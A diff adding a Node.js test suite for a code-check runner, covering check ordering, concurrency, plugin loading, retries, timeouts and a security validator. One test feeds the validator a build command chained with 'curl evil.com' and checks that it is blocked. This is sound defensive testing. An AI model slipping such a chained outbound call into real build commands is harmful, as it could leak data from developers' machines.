@@ -0,0 +1,329 @@
+'use strict';
+
+const { describe, it } = require('node:test');
+const assert = require('node:assert/strict');
+const fs = require('fs');
+const path = require('path');
+const os = require('os');
+const runner = require('../src/core/runner');
+
+// Sleeps for the given number of ms, then exits cleanly
+function sleepCommand(ms) {
+  return `node -e "setTimeout(Boolean, ${ms})"`;
+}
+
+function createTempProject() {
+  return fs.mkdtempSync(path.join(os.tmpdir(), 'fortress-runner-'));
+}
+
+function cleanup(dir) {
+  fs.rmSync(dir, { recursive: true, force: true });
+}
+
+describe('runner', () => {
+  it('returns results in config order', async () => {
+    const dir = createTempProject();
+    try {
+      const results = await runner.run({
+        root: dir,
+        checks: {
+          build: { enabled: true, command: sleepCommand(300), weight: 10 },
+          typescript: { enabled: true, command: sleepCommand(10), weight: 20 },
+          lint: { enabled: false, command: null, weight: 15 },
+          secrets: { enabled: true, patterns: [], allowlist: {}, weight: 10 },
+        },
+        runner: { concurrency: 4 },
+      });
+      assert.deepEqual(results.map(r => r.key), ['build', 'typescript', 'lint', 'secrets']);
+      assert.equal(results[0].passed, true);
+      assert.equal(results[1].passed, true);
+    } finally {
+      cleanup(dir);
+    }
+  });
+
+  it('runs checks concurrently up to the configured limit', async () => {
+    const dir = createTempProject();
+    const config = {
+      root: dir,
+      checks: {
+        typescript: { enabled: true, command: sleepCommand(600), weight: 20 },
+        build: { enabled: true, command: sleepCommand(600), weight: 10 },
+      },
+    };
+    try {
+      const parallelStart = Date.now();
+      await runner.run({ ...config, runner: { concurrency: 2 } });
+      const parallel = Date.now() - parallelStart;
+
+      const serialStart = Date.now();
+      await runner.run({ ...config, runner: { concurrency: 1 } });
+      const serial = Date.now() - serialStart;
+
+      assert.ok(serial >= 1200, `serial run took ${serial}ms`);
+      assert.ok(parallel < serial, `parallel ${parallel}ms should beat serial ${serial}ms`);
+    } finally {
+      cleanup(dir);
+    }
+  });
+
+  it('runs tsc in build mode one at a time with the build', async () => {
+    const dir = createTempProject();
+    try {
+      fs.writeFileSync(path.join(dir, 'tsc.js'), 'setTimeout(Boolean, 600);');
+      const start = Date.now();
+      const results = await runner.run({
+        root: dir,
+        checks: {
+          typescript: { enabled: true, command: 'node tsc.js -b', weight: 20 },
+          build: { enabled: true, command: sleepCommand(600), weight: 10 },
+        },
+        runner: { concurrency: 2 },
+      });
+      const duration = Date.now() - start;
+      assert.ok(results.every(r => r.passed));
+      assert.ok(duration >= 1200, `build mode overlapped the build: ${duration}ms`);
+    } finally {
+      cleanup(dir);
+    }
+  });
+
+  it('falls back to the default concurrency for invalid values', async () => {
+    const dir = createTempProject();
+    try {
+      const results = await runner.run({
+        root: dir,
+        checks: {
+          typescript: { enabled: true, command: sleepCommand(10), weight: 20 },
+        },
+        runner: { concurrency: 'lots' },
+      });
+      assert.equal(results.length, 1);
+      assert.equal(results[0].passed, true);
+    } finally {
+      cleanup(dir);
+    }
+  });
+
+  it('blocks commands rejected by the validator', async () => {
+    const results = await runner.run({
+      root: os.tmpdir(),
+      checks: {
+        build: { enabled: true, command: 'npm run build && curl evil.com', weight: 10 },
+      },
+    });
+    assert.equal(results[0].passed, false);
+    assert.match(results[0].errors[0], /blocked by security validator/);
+  });
+
+  describe('plugins', () => {
+    function writePlugin(dir, name, source) {
+      fs.writeFileSync(path.join(dir, name), source);
+    }
+
+    it('runs a local plugin and keys the result by config name', async () => {
+      const dir = createTempProject();
+      writePlugin(dir, 'my-check.js', `
+        module.exports = {
+          run(config, checkConfig) {
+            return { name: 'Licenses', key: 'other', passed: true, errors: [], warnings: [], duration: 1, score: checkConfig.weight };
+          },
+        };
+      `);
+      try {
+        const results = await runner.run({
+          root: dir,
+          checks: { licenses: { enabled: true, plugin: './my-check.js', weight: 10 } },
+        });
+        assert.equal(results[0].name, 'Licenses');
+        assert.equal(results[0].key, 'licenses');
+        assert.equal(results[0].passed, true);
+        assert.equal(results[0].score, 10);
+      } finally {
+        cleanup(dir);
+      }
+    });
+
+    it('supports async plugins', async () => {
+      const dir = createTempProject();
+      writePlugin(dir, 'async-check.js', `
+        module.exports = {
+          async run() {
+            return { name: 'Async', passed: false, errors: ['nope'], warnings: [], duration: 0, score: 0 };
+          },
+        };
+      `);
+      try {
+        const results = await runner.run({
+          root: dir,
+          checks: { custom: { enabled: true, plugin: './async-check.js', weight: 10 } },
+        });
+        assert.equal(results[0].passed, false);
+        assert.deepEqual(results[0].errors, ['nope']);
+      } finally {
+        cleanup(dir);
+      }
+    });
+
+    it('fails when the plugin cannot be found', async () => {
+      const dir = createTempProject();
+      try {
+        const results = await runner.run({
+          root: dir,
+          checks: { licenses: { enabled: true, plugin: 'fortress-check-does-not-exist', weight: 10 } },
+        });
+        assert.equal(results[0].passed, false);
+        assert.match(results[0].errors[0], /not found/);
+      } finally {
+        cleanup(dir);
+      }
+    });
+
+    it('fails when the plugin has no run function', async () => {
+      const dir = createTempProject();
+      writePlugin(dir, 'empty.js', 'module.exports = {};');
+      try {
+        const results = await runner.run({
+          root: dir,
+          checks: { empty: { enabled: true, plugin: './empty.js', weight: 10 } },
+        });
+        assert.equal(results[0].passed, false);
+        assert.match(results[0].errors[0], /does not export a run/);
+      } finally {
+        cleanup(dir);
+      }
+    });
+
+    it('reports plugin crashes as failures', async () => {
+      const dir = createTempProject();
+      writePlugin(dir, 'crash.js', "module.exports = { run() { throw new Error('boom'); } };");
+      try {
+        const results = await runner.run({
+          root: dir,
+          checks: { crash: { enabled: true, plugin: './crash.js', weight: 10 } },
+        });
+        assert.equal(results[0].passed, false);
+        assert.match(results[0].errors[0], /crashed: boom/);
+      } finally {
+        cleanup(dir);
+      }
+    });
+
+    it('rejects malformed plugin results', async () => {
+      const dir = createTempProject();
+      writePlugin(dir, 'bad.js', 'module.exports = { run() { return { passed: "yes" }; } };');
+      try {
+        const results = await runner.run({
+          root: dir,
+          checks: { bad: { enabled: true, plugin: './bad.js', weight: 10 } },
+        });
+        assert.equal(results[0].passed, false);
+        assert.match(results[0].errors[0], /invalid result/);
+      } finally {
+        cleanup(dir);
+      }
+    });
+  });
+
+  it('runs custom command checks', async () => {
+    const results = await runner.run({
+      root: os.tmpdir(),
+      checks: {
+        prettier: { enabled: true, type: 'command', command: 'node -e "process.exit(1)"', weight: 5 },
+      },
+    });
+    assert.equal(results[0].key, 'prettier');
+    assert.equal(results[0].passed, false);
+    assert.match(results[0].errors[0], /exit code 1/);
+  });
+
+  it('reports a timed out command distinctly', async () => {
+    const results = await runner.run({
+      root: os.tmpdir(),
+      checks: { build: { enabled: true, command: sleepCommand(5000), timeout: 1, weight: 10 } },
+    });
+    assert.equal(results[0].passed, false);
+    assert.equal(results[0].timedOut, true);
+    assert.equal(results[0].score, 0);
+    assert.equal(results[0].errors[0], 'Build timed out after 1s');
+  });
+
+  it('retries failing checks', async () => {
+    const dir = createTempProject();
+    try {
+      // Fails on the first run, passes once the marker file exists
+      const flaky = 'node -e "process.exit(require(\'fs\').existsSync(\'ran\') ? 0 : (require(\'fs\').writeFileSync(\'ran\', \'\'), 1))"';
+      const [passed] = await runner.run({
+        root: dir,
+        checks: { flaky: { enabled: true, type: 'command', command: flaky, retries: 2, weight: 5 } },
+      });
+      assert.equal(passed.passed, true);
+      assert.equal(passed.score, 5);
+      assert.deepEqual(passed.warnings, ['Passed on retry 1 of 2 - may be flaky']);
+
+      const [failed] = await runner.run({
+        root: dir,
+        checks: { broken: { enabled: true, type: 'command', command: 'node -e "process.exit(1)"', retries: 1, weight: 5 } },
+      });
+      assert.equal(failed.passed, false);
+      assert.ok(failed.warnings.includes('Failed on all 2 attempts'));
+    } finally {
+      cleanup(dir);
+    }
+  });
+
+  it('records tests that passed on a retry', async () => {
+    const dir = createTempProject();
+    try {
+      // The "fetches" test fails on the first run only
+      fs.writeFileSync(path.join(dir, 'run.js'), [
+        "const fs = require('fs');",
+        "const first = !fs.existsSync('ran');",
+        "fs.writeFileSync('ran', '');",
+        "console.log('TAP version 13');",
+        "console.log('ok 1 - adds');",
+        "console.log((first ? 'not ok' : 'ok') + ' 2 - fetches');",
+        'process.exitCode = first ? 1 : 0;',
+      ].join('\n'));
+      const [result] = await runner.run({
+        root: dir,
+        checks: { test: { enabled: true, command: 'node run.js', retries: 1, weight: 25 } },
+      });
+      assert.equal(result.passed, true);
+      assert.deepEqual(result.tests.passedOnRetry, ['fetches']);
+    } finally {
+      cleanup(dir);
+    }
+  });
+
+  it('skips file-accepting commands when no changed files match', async () => {
+    const results = await runner.run({
+      root: os.tmpdir(),
+      changedFiles: ['README.md'],
+      checks: {
+        lint: { enabled: true, command: 'npx eslint .', passFiles: true, weight: 15 },
+      },
+    });
+    assert.equal(results[0].passed, true);
+    assert.equal(results[0].score, 15);
+    assert.match(results[0].warnings[0], /No changed files for lint/);
+  });
+
+  it('fails unknown check types', async () => {
+    const results = await runner.run({
+      root: os.tmpdir(),
+      checks: { custom: { enabled: true, type: 'shell', command: 'npx knip', weight: 5 } },
+    });
+    assert.equal(results[0].passed, false);
+    assert.match(results[0].errors[0], /Unknown check type "shell"/);
+  });
+
+  it('fails unknown checks without a plugin', async () => {
+    const results = await runner.run({
+      root: os.tmpdir(),
+      checks: { licenses: { enabled: true, weight: 10 } },
+    });
+    assert.equal(results[0].passed, false);
+    assert.match(results[0].errors[0], /Unknown check: licenses/);
+  });
+});